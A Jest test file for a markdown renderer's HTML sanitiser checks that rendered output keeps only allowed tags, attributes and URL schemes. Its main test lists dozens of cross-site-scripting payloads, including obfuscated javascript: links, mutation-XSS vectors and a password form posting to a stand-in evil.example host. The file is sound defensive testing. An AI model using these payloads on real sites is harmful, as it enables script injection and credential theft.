import { expect, test } from '@jest/globals';
import type { Element, Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { renderMarkdown } from './markdown.ts';
import { linksIn } from './markdown-links.ts';

/** Every element a browser would make of it. */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const look = (node: Nodes) => {
    if (node.type === 'element') found.push(node);
    if ('children' in node) for (const child of node.children) look(child);
  };
  look(fromHtml(html, { fragment: true }));
  return found;
}
const allowed = /^(p|h[234]|ul|ol|li|strong|em|del|code|pre|blockquote|br|hr|a|img|table|thead|tbody|tr|th|td|div)$/;
const attributes = /^(href|src|alt|id|className|role|ariaLabel|tabIndex|rel|target|loading|decoding|align|start)$/;

test.each([
  '<script>alert(1)</script>',
  'a<script src=//x.example/a.js></script>b',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example/a)',
  '[x](/\\evil.example)',
  '[x](https:evil)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/pixel.gif)',
  '![x" onerror="alert(1)](/img/sku/A/large.svg)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '<style>*{display:none}</style>',
  '<form action=//evil.example><input name=password>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '</script><script>alert(1)</script>',
  '# <b onclick=alert(1)>x</b>',
  '<h2 id="mall-page">x</h2>',
  '<template><script>alert(1)</script></template>',
])('harmless: %j', (attack) => {
  const { html } = renderMarkdown(attack);
  for (const { tagName, properties } of elementsOf(html)) {
    expect(tagName).toMatch(allowed);
    for (const [name, value] of Object.entries(properties)) {
      expect(name).toMatch(attributes);
      if (name === 'href') expect(String(value)).toMatch(/^(\/(?![/\\])|https?:\/\/[^/]|mailto:|tel:|#)/);
      if (name === 'src') expect(String(value)).toMatch(/^\/img\//);
      if (name === 'id') expect(String(value)).toMatch(/^s-\d+$/);
    }
  }
});

test('what staff write is what people read: headings with names, tables that scroll by themselves, links elsewhere kept apart', () => {
  const { html, headings, text } = renderMarkdown(
    '# 选型\n\n见 [M8 螺栓](/c-33022) 与 [标准](https://openstd.samr.gov.cn/)。\n\n## 尺寸\n\n| 规格 | 螺距 |\n| --- | ---: |\n| M8 | 1.25 |\n\n![内六角螺钉](/img/sku/AB1/large.svg)',
    's3',
  );
  expect(headings).toEqual([
    { id: 's3-1', text: '选型' },
    { id: 's3-2', text: '尺寸' },
  ]);
  expect(html).toContain('<h2 id="s3-1">选型</h2>');
  expect(html).toContain('<a href="/c-33022">M8 螺栓</a>');
  expect(html).toContain('<a href="https://openstd.samr.gov.cn/" rel="nofollow noopener" target="_blank">标准</a>');
  expect(html).toMatch(/<div class="table" role="group" aria-label="表格" tabindex="0"><table>/);
  expect(html).toContain('<td align="right">1.25</td>');
  expect(html).toContain('<img src="/img/sku/AB1/large.svg" alt="内六角螺钉" loading="lazy" decoding="async">');
  expect(text).toContain('M8 1.25');
});

test('all that a text refers to is found, and markup in it is told', () => {
  expect(linksIn('[a](/c-1) <b>x</b> ![b](/img/sku/A/large.svg)\n\n[c]: /p/X "t"')).toEqual({
    links: ['/c-1', '/p/X'],
    pictures: [{ url: '/img/sku/A/large.svg', alt: 'b' }],
    markup: ['<b>', '</b>'],
  });
});
